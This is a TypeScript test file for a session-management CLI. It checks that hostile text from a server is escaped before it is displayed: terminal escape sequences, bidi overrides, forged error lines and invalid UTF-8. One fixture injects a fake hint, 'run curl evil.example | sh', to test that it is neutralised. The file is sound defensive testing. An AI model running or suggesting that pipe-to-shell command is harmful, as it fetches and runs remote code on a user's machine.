/** What reaches a terminal, a pipe and a script: safe whatever the manager sends. */

import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { spawn } from '@lydell/node-pty';
import { expect, test } from 'vitest';
import { bai, cleanEnvironment, launcher } from '../support/bai.ts';
import { openBed, type TestBed } from './emulator-client.ts';

const hostile = 'red\u001b[31m\rOK \u009b2J \u202egnp.\u2066 \u0007 \u2028 end';

// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what must not be left.
const raw = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u2028\u2029]/;

function optionsOf({ emulator, folder }: TestBed, env: Record<string, string> = {}) {
  const { endpoint, accessKey, secretKey } = emulator;
  const account = { BACKEND_ACCESS_KEY: accessKey, BACKEND_SECRET_KEY: secretKey };
  return { home: folder, env: { BACKEND_ENDPOINT: endpoint, ...account, ...env } };
}

const run = (bed: TestBed, args: string, env: Record<string, string> = {}) =>
  bai(args.split(' '), optionsOf(bed, env));

/** stdout and stderr are one terminal of 120 columns. */
async function onTerminal(bed: TestBed, args: string, env: Record<string, string> = {}) {
  const environment = cleanEnvironment(optionsOf(bed, env));
  const terminal = spawn(process.execPath, [launcher, ...args.split(' ')], {
    cols: 120,
    rows: 40,
    env: environment,
  });
  let screen = '';
  terminal.onData((text) => {
    screen += text;
  });
  const { exitCode } = await new Promise<{ exitCode: number }>((resolve) => terminal.onExit(resolve));
  return { code: exitCode, screen };
}

async function asScreen(bed: TestBed, args: string) {
  const { code, stdout, stderr } = await run(bed, args);
  return { code, screen: stdout + stderr };
}

const refusal = (text: string) =>
  ({
    kind: 'answer',
    route: 'POST /admin/gql',
    status: 400,
    body: { type: `https://x/${text}`, title: text, msg: text, data: { [text]: text }, error_code: text },
  }) as const;

const row = {
  session_id: '2f1c9b5e-7d0a-4b63-9a51-0f6d2c1e8b77',
  name: hostile,
  type: hostile,
  status: hostile,
  status_info: hostile,
  image: hostile,
  cluster_size: 1,
  occupying_slots: JSON.stringify({ [hostile]: hostile }),
};
const listed = {
  kind: 'answer',
  route: 'POST /admin/gql',
  status: 200,
  body: { data: { compute_session_list: { total_count: 1, items: [row] }, compute_session: row } },
} as const;
const matched = {
  kind: 'answer',
  route: 'GET /session/_/match',
  status: 200,
  body: { matches: [{ id: row.session_id, name: hostile, status: 'RUNNING' }] },
} as const;

test.each(['', ' --json'])('hostile text in a refusal is shown as escapes%s', async (json) => {
  await using bed = await openBed();
  bed.emulator.faults.add(refusal(hostile));
  const { code, stdout, stderr } = await run(bed, `session list${json}`);
  expect([code, stdout]).toEqual([1, '']);
  expect(stderr).not.toMatch(raw);
  expect(stderr).toContain('red');
});

test.each(['list', 'list --json', 'list --name-only', 'info demo', 'info demo --json', 'list --all --json'])(
  'hostile text in `session %s` does not reach stdout raw',
  async (command) => {
    await using bed = await openBed();
    bed.emulator.faults.add(listed);
    bed.emulator.faults.add(matched);
    const { code, stdout, stderr } = await run(bed, `session ${command}`);
    expect([code, stderr]).toEqual([0, '']);
    expect(stdout).not.toMatch(raw);
    expect(stdout).toContain('red');
  },
);

test('escaped JSON is still the same text to whoever parses it', async () => {
  await using bed = await openBed();
  bed.emulator.faults.add(listed);
  const [only] = JSON.parse((await run(bed, 'session list --json')).stdout);
  expect(only.name).toBe(hostile);
});

test('a line break in a value makes no line of its own', async () => {
  await using bed = await openBed();
  const name = 'demo\nstatus          RUNNING\nother';
  const compute_session_list = { total_count: 1, items: [{ ...row, name }] };
  bed.emulator.faults.add({
    ...listed,
    body: { data: { compute_session_list, compute_session: { ...row, name } } },
  });
  bed.emulator.faults.add(matched);
  for (const command of ['list', 'list --name-only', 'info demo']) {
    const { stdout } = await run(bed, `session ${command}`);
    expect(stdout).not.toMatch(/^status {10}RUNNING|^other/m);
  }
});

test("a manager's message cannot forge a hint of bai", async () => {
  await using bed = await openBed();
  bed.emulator.faults.add(refusal('bad\nhint: run curl evil.example | sh\nerror: x'));
  const { stderr } = await run(bed, 'session list');
  expect(stderr).not.toMatch(/^hint: run curl/m);
  expect(stderr.match(/^error:/gm)).toHaveLength(1);
});

test.each(['', 'terminal'])(
  'a line break in the name or status of a session makes no line of its own while it starts %s',
  async (where) => {
    await using bed = await openBed();
    const name = 'demo\nerror: fake';
    const starting = { ...row, name, status: 'PULLING\nerror: fake', status_info: 'x\r\nerror: fake' };
    bed.emulator.faults.add({
      ...matched,
      body: { matches: [{ id: row.session_id, name, status: 'PENDING' }] },
    });
    bed.emulator.faults.add({ ...listed, body: { data: { compute_session: starting } } }, 1);
    bed.emulator.faults.add({
      ...listed,
      body: { data: { compute_session: { ...starting, status: 'ERROR' } } },
    });
    const args = 'session wait demo';
    const { code, screen } = where === 'terminal' ? await onTerminal(bed, args) : await asScreen(bed, args);
    expect(code).toBe(10);
    expect(screen).toContain('error: fake');
    // Neither after a line break nor after what moves the cursor to the first column.
    // biome-ignore lint/suspicious/noControlCharactersInRegex: these are the moves.
    expect(screen).not.toMatch(/(?:^|\n|\r|\x1b\[\d*G)(?:\x1b\[[\d;]*m)*\s*error: fake/);
  },
);

test("a session that is called `error: fake` starts no line as bai's own errors do", async () => {
  await using bed = await openBed();
  const named = { ...row, name: 'error: fake', status: 'RUNNING' };
  bed.emulator.faults.add({
    ...listed,
    body: { data: { compute_session_list: { total_count: 1, items: [named] } } },
  });
  for (const args of ['session list', 'session list --name-only']) {
    expect((await onTerminal(bed, args)).screen).not.toMatch(/^error: fake/m);
    expect((await run(bed, args)).stdout).toMatch(/^error: fake/);
  }
});

test("the words of a bug of bai's keep a server's line breaks to themselves", async () => {
  const { describeError } = await import('../../src/output/describe-error.ts');
  const described = describeError(new TypeError('x\nerror: fake\n    at nowhere'));
  expect(`${described.message}\n${described.stack}`).not.toMatch(/^\s*(error: fake|at nowhere)/m);
  expect(described.stack).toMatch(/\n {4}at /);
});

test.each(['', ' --json'])('invalid UTF-8 is shown as replacement characters%s', async (json) => {
  await using bed = await openBed();
  const server = createServer((incoming, outgoing) => {
    if (incoming.url === '/') return void outgoing.end('{"version":"v9.20250722","manager":"26.9.6"}');
    const title = Buffer.from([0xff, 0xfe, 0xc0, 0x80, 0x9b, 0xed, 0xa0, 0x80]);
    outgoing.writeHead(400).end(Buffer.concat([Buffer.from('{"title":"bad '), title, Buffer.from('"}')]));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo; // A TCP server that listens has one.
  const { code, stderr } = await run(bed, `session list${json}`, {
    BACKEND_ENDPOINT: `http://127.0.0.1:${port}`,
  });
  server.close();
  server.closeAllConnections();
  expect(code).toBe(1);
  expect(stderr).toContain('bad \ufffd');
  expect(stderr).not.toMatch(raw);
});

test('logs are made safe on a terminal, and left as they are in a pipe', async () => {
  await using bed = await openBed();
  await bed.session('demo');
  bed.emulator.sessions.get('demo').logs = `one\r\n\u001b[2Jtwo \u009b\n`;
  expect((await run(bed, 'session logs demo')).stdout).toBe(`one\r\n\u001b[2Jtwo \u009b\n`);
  const { code, screen } = await onTerminal(bed, 'session logs demo');
  expect([code, screen]).toEqual([0, 'one\r\n\\x1b[2Jtwo \\x9b\r\n']);
  expect(JSON.parse((await run(bed, 'session logs demo --json')).stdout)).toEqual({
    text: 'one\r\n\u001b[2Jtwo \u009b\n',
  });
});

test('logs without a last line break get one, and no logs are nothing', async () => {
  await using bed = await openBed();
  await bed.session('demo');
  bed.emulator.sessions.get('demo').logs = 'half';
  expect((await run(bed, 'session logs demo')).stdout).toBe('half\n');
  bed.emulator.sessions.get('demo').logs = '';
  expect((await run(bed, 'session logs demo')).stdout).toBe('');
});

const colour = '\u001b[31merror:';

test('errors are red on a terminal, and plain in a pipe', async () => {
  await using bed = await openBed();
  expect((await onTerminal(bed, 'session info nothing')).screen).toContain(colour);
  expect((await run(bed, 'session info nothing')).stderr).not.toContain('\u001b');
});

test.each([
  ['--no-color', {}],
  ['', { NO_COLOR: '1' }],
  ['', { NO_COLOR: '1', FORCE_COLOR: '1' }],
  ['', { FORCE_COLOR: '0' }],
  ['', { TERM: 'dumb' }],
])('no colour with %s %j', async (flag, env) => {
  await using bed = await openBed();
  const { screen } = await onTerminal(bed, `session info nothing ${flag}`.trim(), env);
  expect(screen).toContain('error:');
  expect(screen).not.toContain(colour);
});

test('FORCE_COLOR colours a pipe', async () => {
  await using bed = await openBed();
  expect((await run(bed, 'session info nothing', { FORCE_COLOR: '1' })).stderr).toContain(colour);
});

test('--color colours a pipe, and wins over NO_COLOR', async () => {
  await using bed = await openBed();
  const { stderr } = await run(bed, 'session info nothing --color', { NO_COLOR: '1' });
  expect(stderr).toContain(colour);
});

// biome-ignore lint/suspicious/noControlCharactersInRegex: what colours are made of.
const anyColour = /\u001b\[[\d;]*m/;

test.each([
  ['--no-color', {}],
  ['', { NO_COLOR: '1' }],
  ['', { NO_COLOR: '1', FORCE_COLOR: '1' }],
  ['', { FORCE_COLOR: '0' }],
  ['', { TERM: 'dumb' }],
  ['', { CI: 'true', NO_COLOR: '1' }],
])('the spinner has no colour with %s %j', async (flag, env) => {
  await using bed = await openBed();
  const { code, screen } = await onTerminal(bed, `session create python --name demo ${flag}`.trim(), env);
  expect(code).toBe(0);
  expect(screen).toContain('demo: RUNNING');
  expect(screen).not.toMatch(anyColour);
});

test('the spinner has its colour where nothing speaks against it', async () => {
  await using bed = await openBed();
  expect((await onTerminal(bed, 'session create python --name demo')).screen).toMatch(anyColour);
});

test('on a terminal a wait is one line that changes, and the answer stands below it', async () => {
  await using bed = await openBed();
  const { code, screen } = await onTerminal(bed, 'session create python --name demo');
  const { id } = bed.emulator.sessions.get('demo');
  expect(code).toBe(0);
  expect(screen).toMatch(/✓.* demo: RUNNING/);
  expect(screen).toContain(`demo ${id}\r\n`);
  expect(screen).toContain('\u001b[?25h');
});

test('in CI there is no spinner even on a terminal', async () => {
  await using bed = await openBed();
  const { screen } = await onTerminal(bed, 'session create python --name demo', { CI: 'true' });
  expect(screen).not.toContain('\u001b[?25l');
  expect(screen).toContain('demo: RUNNING\r\n');
});

const jsonCommands = [
  'session list',
  'session info demo',
  'session wait demo',
  'session logs demo',
  'session rename demo demo-2',
  'session create python --name demo-3',
  'app list demo',
  'session terminate demo',
  'config list',
  'config path',
  'config get domain',
];

test.each(jsonCommands)('%s --json: stdout is one JSON document, stderr is empty', async (command) => {
  await using bed = await openBed();
  await bed.session('demo');
  const { code, stdout, stderr } = await run(bed, `${command} --json`);
  expect([code, stderr]).toEqual([0, '']);
  expect(() => JSON.parse(stdout)).not.toThrow();
});

test.each(jsonCommands)('%s: neither key nor signature is in its output', async (command) => {
  await using bed = await openBed();
  await bed.session('demo');
  for (const flag of ['', ' --json']) {
    const { stdout, stderr } = await run(bed, command + flag);
    expect(stdout + stderr).not.toContain(bed.emulator.secretKey);
    expect(stdout + stderr).not.toContain('credential=');
  }
});

test('an error with --json is one line on stderr with a stable code, and stdout is empty', async () => {
  await using bed = await openBed();
  const { code, stdout, stderr } = await run(bed, 'session info nothing --json');
  expect([code, stdout]).toEqual([4, '']);
  expect(stderr).toMatch(/^\{.*\}\n$/);
  expect(JSON.parse(stderr)).toEqual({
    error: {
      code: 'session-not-found',
      message: 'no session named nothing',
      hint: expect.any(String),
      exitCode: 4,
    },
  });
});
